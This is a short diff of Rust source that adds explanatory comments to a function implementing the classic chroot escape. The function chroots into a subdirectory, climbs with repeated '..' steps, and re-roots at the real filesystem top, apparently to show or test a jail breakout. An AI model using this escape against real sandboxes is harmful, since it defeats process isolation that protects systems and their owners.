@@ -52,10 +52,13 @@ fn escaped() -> io::Result<bool> {
 /// The whole attack.
 fn climb() -> Result<()> {
     sys::chdir(Path::new("/"))?;
+    // From here on the root is below us: we stand outside of it.
     sys::chroot(Path::new("tmp"))?;
+    // `..` stops at the process's root only, and that is not on our way up.
     for _ in 0..STEPS {
         sys::chdir(Path::new(".."))?;
     }
+    // At the top, take what is there for our root.
     sys::chroot(Path::new("."))
 }
 
